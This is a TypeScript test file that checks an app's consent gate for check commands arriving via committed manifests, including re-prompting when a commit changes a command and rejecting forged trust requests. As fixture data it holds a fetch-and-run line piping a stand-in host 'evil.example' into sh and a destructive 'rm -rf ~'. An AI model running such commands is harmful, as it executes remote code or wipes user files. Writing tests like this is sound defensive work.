// The consent gate for commands from the committed manifest, driven through the contract like a client would:
// a command runs on this machine only once its user confirmed that exact text here, per workspace.

import { afterAll, describe, expect, it } from 'vitest';
import { existsSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { saveCheckSettings } from '../../../../src/main/core/checks/check-settings';
import { CheckStore } from '../../../../src/main/core/checks/check-store';
import { TrustStore } from '../../../../src/main/core/trust/trust-store';
import { Workspace } from '../../../../src/main/core/workspace/workspace';
import type { CheckBatchReport, CheckSettings } from '../../../../src/shared/types-checks';
import type { UntrustedCommands } from '../../../../src/shared/types-trust';
import { cleanupTempDirs, git } from '../../../helpers/git';
import { checkApp, workspaceWithCheckScript, type CheckApp } from '../checks/check-fixture';
import { commitManifestChange } from './manifest-commit';

const apps: CheckApp[] = [];
afterAll(async () => {
  for (const { app } of apps) await app.dispose();
  cleanupTempDirs();
});

/** A workspace whose manifest got its check command from a commit (not from this app), and an app over it. */
async function committedCommand(command: string) {
  const { dir, tip } = await workspaceWithCheckScript();
  await saveCheckSettings(await Workspace.open(dir), { checks: { command, timeoutSeconds: 20 } });
  // Watching the repository, as the desktop app does: a commit from a terminal is seen.
  const c = checkApp(process.env, { watch: true });
  apps.push(c);
  await c.app.openWorkspace(dir);
  return { dir, tip, ...c };
}

/** Waits until the app has read the manifest a commit from the git CLI wrote. */
async function manifestSeen(c: CheckApp, predicate: (settings: CheckSettings) => boolean): Promise<void> {
  await expect.poll(async () => predicate((await c.call('getCheckSettings', {})).value as CheckSettings), { timeout: 10_000 }).toBe(true);
}

async function checkModule(c: CheckApp, moduleId = 'fleet-hub') {
  const report = c.nextReport();
  const started = await c.call('runChecks', { modules: [moduleId] });
  expect(started.ok).toBe(true);
  return report;
}

function trustFile(c: { appDataDir: string; dir: string }): string {
  return TrustStore.forWorkspace(c.appDataDir, c.dir).file;
}

function refusal(result: Awaited<ReturnType<CheckApp['call']>>): UntrustedCommands {
  expect(result).toMatchObject({ ok: false, error: { code: 'COMMAND_NOT_TRUSTED' } });
  return result.error!.data as unknown as UntrustedCommands;
}

describe('consent to commands from the manifest', () => {
  it('refuses the first run naming the command and where it comes from, starts nothing, and runs once the user confirmed it', async () => {
    const c = await committedCommand('./check.sh');
    const first = await c.call('runChecks', { modules: ['fleet-hub'] });
    const data = refusal(first);
    expect(first.error!.message).toContain('"./check.sh" has not been confirmed on this machine');
    expect(data.commands).toEqual([{ kind: 'check', scope: '*', command: './check.sh', previous: null }]);
    expect(data.origin).toEqual({ branch: 'fleet/workspace', file: '.fleet/manifest.json', commit: git(c.dir, 'rev-parse', 'fleet/workspace'), author: git(c.dir, 'log', '-1', '--format=%an <%ae>', 'fleet/workspace') });
    // No job, no status, no result, no checkout folder, no trust written.
    expect(c.statuses).toEqual([]);
    expect(existsSync(CheckStore.forWorkspace(c.appDataDir, c.dir).dir)).toBe(false);
    expect(existsSync(trustFile(c))).toBe(false);

    const confirmed = await c.call('trustCommands', { commands: [{ kind: 'check', scope: '*', command: './check.sh' }] });
    expect(confirmed).toEqual({ ok: true, value: { trusted: [{ kind: 'check', scope: '*', command: './check.sh' }] } });
    expect(statSync(trustFile(c)).mode & 0o777).toBe(0o600);
    const { results } = await checkModule(c);
    expect(results).toMatchObject([{ moduleId: 'fleet-hub', state: 'passed', command: './check.sh' }]);
  });

  it('asks again, naming the old and the new text, when a new commit on fleet/workspace changes the command', async () => {
    const c = await committedCommand('./check.sh');
    await c.call('trustCommands', { commands: [{ kind: 'check', scope: '*', command: './check.sh' }] });
    await checkModule(c);
    const tip = commitManifestChange(c.dir, (m) => (m.checks!.command = 'curl https://evil.example | sh'));
    await manifestSeen(c, (s) => s.checks?.command !== './check.sh');

    const again = await c.call('runChecks', { modules: ['fleet-hub'] });
    const data = refusal(again);
    expect(again.error!.message).toContain('changed since you confirmed it: "./check.sh" is now "curl https://evil.example | sh"');
    expect(data.commands).toEqual([{ kind: 'check', scope: '*', command: 'curl https://evil.example | sh', previous: './check.sh' }]);
    expect(data.origin).toMatchObject({ commit: tip, author: 'Mallory Pusher <mallory@example.com>' });
  });

  it('needs a separate consent for a module\'s own command, and only for modules that use it', async () => {
    const c = await committedCommand('./check.sh');
    await c.call('trustCommands', { commands: [{ kind: 'check', scope: '*', command: './check.sh' }] });
    commitManifestChange(c.dir, (m) => (m.modules.find((x) => x.id === 'drivers-hub')!.check = { command: 'echo own' }));
    await manifestSeen(c, (s) => s.overrides.length === 1);

    // fleet-hub still runs the confirmed workspace command.
    expect((await checkModule(c)).results).toMatchObject([{ moduleId: 'fleet-hub', state: 'passed' }]);
    const data = refusal(await c.call('runChecks', { modules: ['fleet-hub', 'drivers-hub'] }));
    expect(data.commands).toEqual([{ kind: 'check', scope: 'drivers-hub', command: 'echo own', previous: null }]);
    await c.call('trustCommands', { commands: data.commands.map(({ kind, scope, command }) => ({ kind, scope, command })) });
    const { results } = await checkModule(c, 'drivers-hub');
    expect(results).toMatchObject([{ moduleId: 'drivers-hub', state: 'passed', command: 'echo own' }]);
  });

  it('refuses to confirm a command the manifest does not hold, trusting nothing', async () => {
    const c = await committedCommand('./check.sh');
    const forged = await c.call('trustCommands', { commands: [{ kind: 'check', scope: '*', command: 'rm -rf ~' }] });
    expect(forged).toMatchObject({ ok: false, error: { code: 'COMMAND_NOT_IN_MANIFEST', data: { current: './check.sh' } } });
    expect(forged.error!.message).toContain('"rm -rf ~": the manifest holds "./check.sh"');
    // One good and one forged: all or nothing.
    const mixed = await c.call('trustCommands', { commands: [{ kind: 'check', scope: '*', command: './check.sh' }, { kind: 'check', scope: 'fleet-hub', command: 'make' }] });
    expect(mixed).toMatchObject({ ok: false, error: { code: 'COMMAND_NOT_IN_MANIFEST', data: { current: null } } });
    expect(existsSync(trustFile(c))).toBe(false);
    expect((await c.call('trustCommands', { commands: [{ kind: 'shell', scope: '*', command: 'x' }] })).error?.code).toBe('INVALID_INPUT');
  });

  it('counts a command set from the app as confirmed, and stops a queued module whose command changed before it started', async () => {
    const { dir } = await workspaceWithCheckScript();
    const c = checkApp(process.env, { watch: true });
    apps.push(c);
    await c.app.openWorkspace(dir);
    // The first check runs until it is cancelled (the sandbox hides the test's files from it), so the second is
    // still queued when the command changes.
    const waiting = 'sleep 30';
    expect((await c.call('saveCheckSettings', { checks: { command: waiting, timeoutSeconds: 20, concurrency: 1 } })).ok).toBe(true);
    const report = c.nextReport();
    expect((await c.call('runChecks', { modules: ['fleet-hub', 'drivers-hub'] })).ok).toBe(true);
    commitManifestChange(dir, (m) => (m.checks!.command = 'echo swapped'));
    await manifestSeen(c, (s) => s.checks?.command === 'echo swapped');
    expect(await c.call('cancelCheck', { moduleId: 'fleet-hub' })).toEqual({ ok: true, value: { cancelled: true } });
    const { results, skipped }: CheckBatchReport = await report;
    expect(results.map((r) => [r.moduleId, r.state, r.command])).toEqual([['fleet-hub', 'cancelled', waiting]]);
    expect(skipped).toMatchObject([{ moduleId: 'drivers-hub', error: { code: 'COMMAND_NOT_TRUSTED' } }]);
    expect(readdirSync(join(CheckStore.forWorkspace(c.appDataDir, dir).dir, 'results'))).toEqual(['fleet-hub.json']);
  });
});
